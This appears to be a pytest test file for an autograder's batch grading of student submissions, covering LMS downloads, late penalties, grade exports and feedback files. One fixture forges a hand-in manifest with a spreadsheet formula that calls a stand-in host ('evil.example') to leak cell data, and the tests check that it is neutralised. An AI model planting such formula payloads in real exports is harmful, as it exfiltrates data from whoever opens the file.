"""Grading a real class with ``batch``: no silent zeros (nested folders, notebooks, empty folders), regrading
by content, the id map, the submission time and late penalties, and one feedback file per student
(public checks in full, hidden ones by title only)."""
from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from autograder.sandbox import bwrap
from autograder.grading import visibility
from autograder.classroom.late import LateRule, LateRuleError, parse_rule

ROOT = Path(__file__).resolve().parents[1]
PY = sys.executable
EX02 = (ROOT / "solutions" / "ex02_ctc_decoding.py").read_text()
# public checks pass (they use blank 0), the hidden one with a non-zero blank fails
IGNORES_BLANK = EX02 + "\n\n_collapse = ctc_collapse\n\n\ndef ctc_collapse(ids, blank=0):\n    return _collapse(ids, 0)\n"
# a public check fails: every item decoded over all T frames
IGNORES_LENGTHS = EX02 + ("\n\n_greedy = greedy_decode\n\n\ndef greedy_decode(log_probs, encoder, lengths=None):\n"
                          "    return _greedy(log_probs, encoder, None)\n")
SANDBOX = [] if bwrap.probe()[0] else ["--no-sandbox"]


def batch(base: Path, *extra: str) -> subprocess.CompletedProcess:
    cmd = [PY, "-m", "autograder", "batch", str(base / "subs"), "--csv", str(base / "out" / "grades.csv"),
           "--only", "ex02", "--no-progress", "--deadline", "2026-11-20T12:00:00+00:00", "--late-rule",
           "10%/day,cap=30%", "--ids", str(base / "ids.csv"), *SANDBOX, *extra]
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=600)


def _set_mtime(path: Path, iso: str) -> None:
    from autograder.classroom.late import parse_time

    t = parse_time(iso).timestamp()
    os.utime(path, (t, t))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("class")
    subs = base / "subs"
    (subs / "alice_1234_attempt" / "ds2" / "exercises").mkdir(parents=True)   # a nested LMS download
    f = subs / "alice_1234_attempt" / "ds2" / "exercises" / "ex02_ctc_decoding.py"
    f.write_text(EX02)
    _set_mtime(f, "2026-11-20T11:00:00+00:00")                                  # on time
    (subs / "bob").mkdir(parents=True)
    f = subs / "bob" / "ex02_ctc_decoding.py"
    f.write_text(IGNORES_BLANK)
    _set_mtime(f, "2026-11-22T13:00:00+00:00")  # the files' time is overridden by the id map's LMS time
    (subs / "carol").mkdir()
    (subs / "carol" / "ex02.ipynb").write_text("{}")                            # notebooks, no .py
    (subs / "dave").mkdir()
    (subs / "dave" / "notes.txt").write_text("I could not finish")              # nothing gradable
    (subs / "frank").mkdir()
    f = subs / "frank" / "ex02_ctc_decoding.py"
    f.write_text(IGNORES_LENGTHS)
    _set_mtime(f, "2026-11-25T13:00:00+00:00")                                  # 5 days late: capped at 30 %
    (subs / "gina").mkdir()
    (subs / "gina" / "ex02_ctc_decoding.py").write_text(EX02)                   # 23 h late, with a 1-day extension
    r = subprocess.run([PY, "-m", "autograder", "handin", str(ROOT / "solutions"), "-o", str(subs / "erin.zip"),
                        "--student", "s-erin"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    (base / "ids.csv").write_text("download name,student id,submitted\nalice_1234_attempt,s-alice,\n"
                                  "bob,s-bob,2026-11-21T12:30:00+00:00\ncarol,s-carol,\n"
                                  "gina,s-gina,2026-11-21T11:00:00+00:00,1d\n")
    first = batch(base)
    reports = base / "out" / "grades-reports"
    mtimes = {p.name: p.stat().st_mtime_ns for p in reports.glob("*.json")}
    return base, first, mtimes


def _rows(base: Path) -> dict[str, dict]:
    with (base / "out" / "grades.csv").open(newline="") as f:
        return {r["student"]: r for r in csv.DictReader(f)}


def test_no_silent_zeros(graded):
    base, res, _ = graded
    assert res.returncode == 0, res.stderr[-3000:]
    rows = _rows(base)
    assert rows["alice_1234_attempt"]["status"].startswith("ok (") and rows["alice_1234_attempt"]["raw_score"] == "8"
    assert "ds2/exercises/" in rows["alice_1234_attempt"]["notes"]
    assert rows["carol"]["status"] == "notebooks, no .py files" and "ex02.ipynb" in rows["carol"]["notes"]
    assert rows["dave"]["status"] == "no exercise files" and "notes.txt" in rows["dave"]["notes"]
    assert rows["erin"]["status"] == "ok" and rows["erin"]["raw_score"] == "8"


def test_ids_submission_times_and_late_penalties(graded):
    base, res, _ = graded
    rows = _rows(base)
    hidden = sum(c.points for c in visibility.all_checks() if c.exercise == "ex02" and c.hidden)
    a, b, e, f = rows["alice_1234_attempt"], rows["bob"], rows["erin"], rows["frank"]
    assert (a["student_id"], b["student_id"], rows["carol"]["student_id"]) == ("s-alice", "s-bob", "s-carol")
    assert e["student_id"] == "s-erin" and "hand-in manifest" in e["notes"]  # the student's own claim, said so
    assert a["late"] == "on time" and a["score"] == "8" and a["submitted_from"] == "newest file's mtime"
    # bob: the LMS time from the id map (1 day 30 min late: 2 started days, 20 %)
    assert b["submitted_from"] == "id map" and b["late_penalty"] == "20"
    assert float(b["raw_score"]) == 8 - hidden and float(b["score"]) == pytest.approx((8 - hidden) * 0.8)
    assert e["submitted_from"] == "hand-in manifest" and e["late_penalty"] != ""
    # frank: missing from the id map, late by his file's mtime only: never a penalty from file times, and the
    # status says so (issue 20 item 3)
    assert f["late"].endswith("(file times)") and f["late_penalty"] == "0" and f["score"] == f["raw_score"]
    assert f["status"] == "ok; late by file times (not penalised)" and "--late-from-file-times" in f["notes"]
    assert "frank" in res.stderr and "not in the id map" in res.stderr  # unmapped submissions are listed
    assert all(r["graded_at"] for r in rows.values())
    # gina: 23 h late by the LMS's time, with a 1-day extension in the id map's fourth column: on time
    g = rows["gina"]
    assert g["late"] == "on time" and g["late_penalty"] == "0" and g["score"] == "8" and g["status"] == "ok"
    assert g["deadline"].startswith("2026-11-21T12:00:00") and "extension 1d" in g["notes"]
    assert a["deadline"].startswith("2026-11-20T12:00:00")


def test_file_times_penalise_only_when_asked_and_the_status_says_so(graded):
    base, _, _ = graded
    res = batch(base, "--late-from-file-times")  # the CSV is rebuilt from the reports: nobody is graded again
    assert res.returncode == 0 and "graded 0 student(s)" in res.stdout, res.stderr[-2000:]
    f = _rows(base)["frank"]
    assert f["late_penalty"] == "30" and float(f["score"]) == pytest.approx(float(f["raw_score"]) * 0.7)
    assert f["status"] == "ok; late by file times (penalised)"
    frank = (base / "out" / "grades-feedback" / "frank.md").read_text()
    assert "-30%" in frank
    assert batch(base).returncode == 0 and _rows(base)["frank"]["late_penalty"] == "0"  # back to the default


def test_feedback_files_show_public_checks_in_full_and_hidden_ones_by_title(graded):
    base, _, _ = graded
    fb = base / "out" / "grades-feedback"
    assert sorted(p.stem for p in fb.glob("*.md")) == sorted(_rows(base))
    bob = (fb / "bob.md").read_text()
    hidden = next(c for c in visibility.all_checks() if c.exercise == "ex02" and c.hidden)
    assert hidden.title in bob and "FAIL" in bob and "hidden check" in bob
    assert "blank=28" not in bob and "ids=" not in bob  # no hidden input
    frank = (fb / "frank.md").read_text()
    assert "FAIL" in frank and "lengths" in frank and "greedy_decode" in frank  # the public message, in full
    assert "-30%" not in frank and "file times" not in frank  # not penalised; the instructor's note stays out
    assert "notebooks" in (fb / "carol.md").read_text()
    erin = (fb / "erin.md").read_text()
    assert "hand-in manifest" not in erin and "s-erin" not in erin  # the id-map and manifest notes are the CSV's


def test_regrading_by_content(graded):
    base, _, first = graded
    reports = base / "out" / "grades-reports"
    again = batch(base)
    assert again.returncode == 0 and "0 student(s)" in again.stdout and "7 already done" in again.stdout
    assert {p.name: p.stat().st_mtime_ns for p in reports.glob("*.json")} == first
    time.sleep(0.05)
    (base / "subs" / "bob" / "ex02_ctc_decoding.py").write_text(EX02)     # bob fixes his code
    res = batch(base, "--regrade", "dave")
    assert res.returncode == 0, res.stderr[-2000:]
    assert "graded 2 student(s)" in res.stdout and "5 already done" in res.stdout
    now = {p.name: p.stat().st_mtime_ns for p in reports.glob("*.json")}
    assert {n for n in now if now[n] != first[n]} == {"bob.json", "dave.json"}
    assert json.loads((reports / "bob.json").read_text())["score"] == 8
    assert _rows(base)["bob"]["raw_score"] == "8"
    res = batch(base, "--regrade", "nobody")
    assert res.returncode == 2 and "no student named nobody" in res.stderr


def test_late_rules():
    assert parse_rule("none") == LateRule() and parse_rule(None).penalty(10 ** 6) == 0
    r = parse_rule("10%/day,cap=25%")
    assert r.penalty(-5) == 0 and r.penalty(1) == 10 and r.penalty(86400) == 10 and r.penalty(86401) == 20
    assert r.penalty(10 * 86400) == 25
    g = parse_rule("2%/hour,grace=15min")
    assert g.penalty(900) == 0 and g.penalty(901) == 2 and g.penalty(3600 + 901) == 4
    for bad in ("10/day", "10%/fortnight", "10%/day,max=3", "10%/day,cap=200%"):
        with pytest.raises(LateRuleError):
            parse_rule(bad)


def test_handin_records_the_student_id(tmp_path):
    import zipfile

    out = tmp_path / "h.zip"
    r = subprocess.run([PY, "-m", "autograder", "handin", str(ROOT / "solutions"), "-o", str(out), "--student",
                        "s 1"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 2 and "student id" in r.stderr
    r = subprocess.run([PY, "-m", "autograder", "handin", str(ROOT / "solutions"), "-o", str(out), "--student",
                        "s123"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0 and "s123" in r.stdout
    manifest = json.loads(zipfile.ZipFile(out).read("MANIFEST.json"))
    assert manifest["student"] == "s123" and manifest["created"][-6] in "+-"  # ISO, with its UTC offset


# ----------------------------------------------------------------------------- LMS downloads (issue 20 items 1, 2, 6)
def _forged_handin(path: Path) -> None:
    """A hand-in zip of the solutions whose manifest's student and created fields are spreadsheet formulas."""
    import zipfile

    r = subprocess.run([PY, "-m", "autograder", "handin", str(ROOT / "solutions"), "-o", str(path), "--student",
                        "s-lee"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    manifest = json.loads(members["MANIFEST.json"])
    manifest.update(student='=HYPERLINK("http://evil.example/?"&A1,"x")', created="=1+2")
    members["MANIFEST.json"] = json.dumps(manifest).encode()
    with zipfile.ZipFile(path, "w") as z:
        for n, data in members.items():
            z.writestr(n, data)


@pytest.fixture(scope="module")
def canvas(tmp_path_factory):
    """Canvas's flat "Download Submissions": lastfirst[_LATE]_<user id>_<submission id>_<file>."""
    base = tmp_path_factory.mktemp("canvas")
    subs = base / "subs"
    subs.mkdir()
    (subs / "smithjane_12345_678901_ex02_ctc_decoding.py").write_text(EX02)
    (subs / "doejohn_LATE_23456_789012_Ex02_ctc_decoding (1).py").write_text(IGNORES_LENGTHS)  # misnamed
    (subs / "doejohn_LATE_23456_789012_ex02_notes.py.md").write_text("my notes")
    _forged_handin(subs / "leeann_34567_890123_handin.zip")
    (subs / "kimbo_45678_901234_draft.py").write_text("print('hi')\n")                        # names no exercise
    (subs / "index.html").write_text("<html></html>")                                         # no student's
    (base / "ids.csv").write_text("name,student_id,submitted,extension\n"
                                  "smithjane_12345,s-jane,2026-11-21T00:30:00+00:00,2h\n")
    cmd = [PY, "-m", "autograder", "batch", str(subs), "--csv", str(base / "out" / "grades.csv"), "--only", "ex02",
           "--no-progress", "--deadline", "2026-11-20T23:59", "--late-rule", "10%/day", "--ids", str(base / "ids.csv"),
           "--format", "canvas,moodle", "--assignment", "HW1 (4242)", *SANDBOX]
    res = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=600)
    return base, res


def _csv(path: Path) -> list[list[str]]:
    with path.open(newline="") as f:
        return list(csv.reader(f))


def test_canvas_flat_download_is_graded_with_ids_from_the_names(canvas):
    base, res = canvas
    assert res.returncode == 0, res.stderr[-3000:]
    assert "4 in" in res.stdout and "read from Canvas file names" in res.stdout
    assert "index.html" in res.stderr  # the entry that is no student's is named
    rows = _rows(base)
    assert sorted(rows) == ["doejohn_23456", "kimbo_45678", "leeann_34567", "smithjane_12345"]
    jane, john, lee, kim = (rows[n] for n in ("smithjane_12345", "doejohn_23456", "leeann_34567", "kimbo_45678"))
    assert jane["student_id"] == "s-jane" and jane["score"] == "8" and jane["status"] == "ok"
    # the LMS's time 00:30 is 31 min after the end of 23:59, within the 2 h extension
    assert jane["late"] == "on time" and jane["submitted_from"] == "id map" and "extension 2h" in jane["notes"]
    assert john["student_id"] == "23456" and "Canvas download" in john["notes"]
    assert john["status"] == "misnamed files, graded; late by file times (not penalised)"
    assert "Ex02_ctc_decoding (1).py" in john["notes"]
    assert 0 < float(john["raw_score"]) < 8  # graded (a public check fails), not ignored
    assert "Canvas marked this submission late" in john["notes"]
    assert kim["status"] == "no exercise files" and "draft.py" in kim["notes"] and kim["score"] == "0"
    assert lee["status"].startswith("ok (a zip in the folder)") and lee["score"] == "8"


def test_hostile_manifest_fields_never_reach_a_cell(canvas):
    """Issue 19 item 6: the manifest's student and created fields are validated, and no cell of any CSV
    starts with = + - @."""
    base, _ = canvas
    lee = _rows(base)["leeann_34567"]
    assert lee["student_id"] == "34567" and "HYPERLINK" not in lee["student_id"]
    assert "student field is not a student id" in lee["notes"] and "created field is not an ISO time" in lee["notes"]
    assert lee["submitted_from"] != "hand-in manifest"
    for name in ("grades.csv", "grades-canvas.csv", "grades-moodle.csv"):
        for row in _csv(base / "out" / name):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@")), (name, cell)


def test_lms_exports_have_the_documented_columns(canvas):
    from autograder.classroom.batch import EXPORT_COLUMNS

    base, res = canvas
    canvas_rows = _csv(base / "out" / "grades-canvas.csv")
    assert canvas_rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "HW1 (4242)"]
    assert canvas_rows[1] == ["Points Possible", "", "", "", "", "8"]
    by_id = {r[1]: r for r in canvas_rows[2:]}
    assert by_id["12345"][2] == "s-jane" and by_id["12345"][5] == "8" and by_id["45678"][5] == "0"
    moodle_rows = _csv(base / "out" / "grades-moodle.csv")
    assert moodle_rows[0] == EXPORT_COLUMNS["moodle"] and len(moodle_rows) == 5
    docs = (ROOT / "docs" / "instructors.md").read_text()
    for fmt, cols in EXPORT_COLUMNS.items():
        assert ", ".join(f"`{c}`" for c in cols) in docs, fmt


def test_moodle_folders_and_flat_files(tmp_path):
    subs = tmp_path / "subs"
    (subs / "Jane Smith_12345_assignsubmission_file_").mkdir(parents=True)
    (subs / "Jane Smith_12345_assignsubmission_file_" / "ex02_ctc_decoding.py").write_text(EX02)
    (subs / "Jane Smith_12345_assignsubmission_onlinetext_").mkdir()
    (subs / "Jane Smith_12345_assignsubmission_onlinetext_" / "onlinetext.html").write_text("<p>done</p>")
    (subs / "John Doe_23456_assignsubmission_file_ex02-ctc_decoding.py").write_text(EX02)  # flat, misnamed
    cmd = [PY, "-m", "autograder", "batch", str(subs), "--csv", str(tmp_path / "g.csv"), "--only", "ex02",
           "--no-progress", "--format", "moodle", *SANDBOX]
    res = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert res.returncode == 0, res.stderr[-3000:]
    with (tmp_path / "g.csv").open(newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert sorted(rows) == ["Jane_Smith_12345", "John_Doe_23456"]
    assert rows["Jane_Smith_12345"]["score"] == "8" and rows["Jane_Smith_12345"]["student_id"] == "12345"
    assert rows["John_Doe_23456"]["score"] == "8" and rows["John_Doe_23456"]["status"] == "misnamed files, graded"
    moodle = _csv(tmp_path / "g-moodle.csv")
    assert ["Participant 12345", "Jane_Smith_12345", "8", "8", ""] in moodle


def test_a_class_folder_without_students_is_an_error(tmp_path):
    (tmp_path / "subs").mkdir()
    (tmp_path / "subs" / "grades.xlsx").write_text("not a student")
    res = subprocess.run([PY, "-m", "autograder", "batch", str(tmp_path / "subs"), "--csv", str(tmp_path / "g.csv"),
                          "--no-progress", *SANDBOX], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert res.returncode == 2 and "no student found" in res.stderr and "grades.xlsx" in res.stderr
    assert "Traceback" not in res.stderr and not (tmp_path / "g.csv").exists()
    res = subprocess.run([PY, "-m", "autograder", "batch", str(tmp_path / "subs"), "--csv", str(tmp_path / "g.csv"),
                          "--format", "blackboard", *SANDBOX], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert res.returncode == 2 and "--format blackboard: expected canvas, moodle" in res.stderr


# ----------------------------------------------------------------------------- units
def test_misnamed_file_names_are_recognised():
    from autograder.spec import recognise_file

    for name, ex in [("Ex01_spectrogram.py", "ex01"), ("ex04_ctc_loss (1).py", "ex04"), ("ex03-wer.py", "ex03"),
                     ("ex02_ctc_decoding.py.txt", "ex02"), ("ex5_conv.py", "ex05"), ("ex01_spectrogram-1.py", "ex01"),
                     ("EX 11 row conv.py", "ex11")]:
        hit = recognise_file(name)
        assert hit is not None and hit[0].id == ex and hit[1], name
    assert recognise_file("ex04_ctc_loss.py")[1] == ""
    for name in ("notes.py", "ex12_x.py", "ex04.ipynb", "exercise1.py", "ex00_x.py", "my_ex04.py"):
        assert recognise_file(name) is None, name


def test_deadline_precision_and_extensions():
    from autograder.classroom.late import apply_extension, lateness, parse_deadline

    rule = parse_rule("10%/day")
    due = parse_deadline("2026-12-01T23:59+00:00")  # the end of that minute
    assert lateness("2026-12-01T23:59:59.9+00:00", due, rule)[1] == 0
    assert lateness("2026-12-02T00:00:00+00:00", due, rule)[1] == 10
    assert parse_deadline("2026-12-01+00:00" if False else "2026-12-01").time().isoformat() == "23:59:59.999999"
    exact = parse_deadline("2026-12-01T23:59:00+00:00")
    assert lateness("2026-12-01T23:59:01+00:00", exact, rule)[1] == 10
    assert apply_extension(due, "2d") - due == __import__("datetime").timedelta(days=2)
    assert apply_extension(due, "2026-12-05T10:00+00:00").isoformat().startswith("2026-12-05T10:00:59")
    assert apply_extension(due, "") == due
    with pytest.raises(LateRuleError):
        apply_extension(due, "two days")


def test_bad_id_map_rows_are_named(tmp_path):
    from autograder.classroom.batch import read_id_map

    (tmp_path / "m.csv").write_text("alice,s1,,3 fortnights\n")
    with pytest.raises(ValueError, match=r"row 1: extension '3 fortnights'"):
        read_id_map(str(tmp_path / "m.csv"))
    (tmp_path / "m.csv").write_text("alice,s1,yesterday\n")
    with pytest.raises(ValueError, match="row 1: submitted 'yesterday' is not an ISO time"):
        read_id_map(str(tmp_path / "m.csv"))


def test_safe_cells():
    from autograder.classroom.batch import safe_cell

    for bad in ("=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("ok") == "ok" and safe_cell(None) == "" and safe_cell(8.5) == "8.5"


def _report(tmp: Path, name: str, **kw) -> None:
    rep = {"score": 5, "max_score": 8, "complete": True, "status": "ok", "notes": [], "exercises": {},
           "fingerprint": "abc", "only": ["ex02"], "sandbox": "process"}
    rep.update(kw)
    (tmp / f"{name}.json").write_text(json.dumps(rep))


def test_a_grader_error_is_never_a_final_grade(tmp_path):
    """Issue 19 item 5: a report with a grader error is not done (the next run grades it again, whatever the
    fingerprint says), and the CSV says so with no score until it succeeds."""
    from autograder.classroom import batch as B

    reports = tmp_path / "reports"
    reports.mkdir()
    _report(reports, "ann", status="grader error", grader_errors=["pytest exited with status 3"],
            notes=["=HYPERLINK(\"x\")"])
    _report(reports, "ben")
    assert B._load_report(str(reports / "ann.json")) is None and B._load_report(str(reports / "ben.json"))
    assert B._why_grade(B._read_report(str(reports / "ann.json")), "abc", ["ex02"], False) == "grader error last time"
    assert B._why_grade(B._read_report(str(reports / "ben.json")), "abc", ["ex02"], False) is None
    n, _ = B.write_csv(str(tmp_path / "g.csv"), [("ann", ""), ("ben", "")], str(reports),
                       feedback_dir=str(tmp_path / "fb"), formats=["canvas"])
    with (tmp_path / "g.csv").open(newline="") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    assert rows["ann"]["status"] == B.STATUS_GRADER_ERROR and rows["ann"]["score"] == ""
    assert rows["ann"]["raw_score"] == "5" and "not a grade" in rows["ann"]["notes"]
    assert rows["ann"]["notes"].startswith("'=HYPERLINK")  # neutralised
    assert rows["ben"]["score"] == "5" and rows["ben"]["status"] == "ok"
    assert not (tmp_path / "fb" / "ann.md").exists() and (tmp_path / "fb" / "ben.md").exists()
    canvas_rows = _csv(tmp_path / "g-canvas.csv")
    assert canvas_rows[2][0] == "ann" and canvas_rows[2][5] == ""  # the LMS keeps the student's grade as it was


def test_csv_columns_match_the_docs():
    from autograder.classroom.batch import CSV_COLUMNS

    docs = (ROOT / "docs" / "instructors.md").read_text()
    assert ", ".join(f"`{c}`" for c in CSV_COLUMNS) in docs.replace("\n", " ")


def test_feedback_for_an_empty_submission_is_short():
    from autograder.classroom.feedback import feedback_markdown

    checks = [{"name": f"test_{i}", "title": f"check {i}", "status": "failed", "kind": "missing", "points": 1,
               "earned": 0, "message": "no ex02 file in the submission (expected ex02_ctc_decoding.py)"}
              for i in range(4)]
    rep = {"score": 0, "max_score": 100, "status": "no exercise files", "notes": ["bob/ is empty"],
           "exercises": {ex: {"score": 0, "max_score": 4, "checks": checks} for ex in ("ex01", "ex02", "ex03")}}
    text = feedback_markdown(rep, "bob")
    assert len(text.splitlines()) < 15 and "No exercise file was graded" in text and "bob/ is empty" in text
    rep["exercises"]["ex02"]["checks"] = [dict(checks[0], status="passed", earned=1)] + checks[1:]
    text = feedback_markdown(rep, "bob")
    assert text.count("file missing") == 2 + 3  # ex01 and ex03 one line each; ex02's three failed checks


def test_flat_lms_files_are_gathered_only_in_a_folder_of_our_own(tmp_path):
    from autograder.classroom.batch import STAGING_MARKER, find_class

    subs = tmp_path / "hw1"
    subs.mkdir()
    (subs / "smithjane_12345_678901_ex02_ctc_decoding.py").write_text(EX02)
    (tmp_path / "hw1-lms").mkdir()
    (tmp_path / "hw1-lms" / "precious.txt").write_text("the instructor's")
    with pytest.raises(ValueError, match="was not made by the autograder"):
        find_class(str(subs), str(tmp_path / "hw1-lms"))
    assert (tmp_path / "hw1-lms" / "precious.txt").exists()
    with pytest.raises(ValueError, match="is the submissions folder"):
        find_class(str(subs), str(subs))
    cf = find_class(str(subs), str(tmp_path / "out-lms"))
    assert cf.students == [("smithjane_12345", str(tmp_path / "out-lms" / "smithjane_12345"))]
    assert (tmp_path / "out-lms" / STAGING_MARKER).is_file()
    assert cf.lms["smithjane_12345"] == {"lms": "canvas", "id": "12345", "late": False}
    assert find_class(str(subs), str(tmp_path / "out-lms")).students == cf.students  # rebuilt, same place


def test_an_interrupt_that_lands_on_a_grading_thread_stops_the_batch_at_once():
    """The batch's main thread waits for graded students; a Ctrl-C that the kernel delivers to a grading thread
    is handled in the main thread only when it runs again. Waiting with as_completed, that was when the next
    student ended (a CI run: a grading the interrupt should have cut off finished and wrote its report)."""
    import signal
    import threading
    import time
    from concurrent.futures import ThreadPoolExecutor, as_completed

    from autograder.classroom.batch import _completed

    def seconds_to_interrupt(wait_for) -> float:
        started = threading.Event()
        idents = []

        def grading():
            idents.append(threading.get_ident())
            started.set()
            time.sleep(4.0)

        with ThreadPoolExecutor(1) as pool:
            futures = [pool.submit(grading)]
            started.wait()
            t0 = time.monotonic()
            threading.Timer(0.3, lambda: signal.pthread_kill(idents[0], signal.SIGINT)).start()
            try:
                for fut in wait_for(futures):
                    fut.result()
            except KeyboardInterrupt:
                return time.monotonic() - t0
        raise AssertionError("no KeyboardInterrupt")

    # Ctrl-C as an interactive run has it (a test run started in the background inherits SIGINT ignored)
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        assert seconds_to_interrupt(as_completed) > 3.0        # the bug, as the standard library has it
        assert seconds_to_interrupt(_completed) < 2.0           # wakes every 0.5 s
    finally:
        signal.signal(signal.SIGINT, previous)
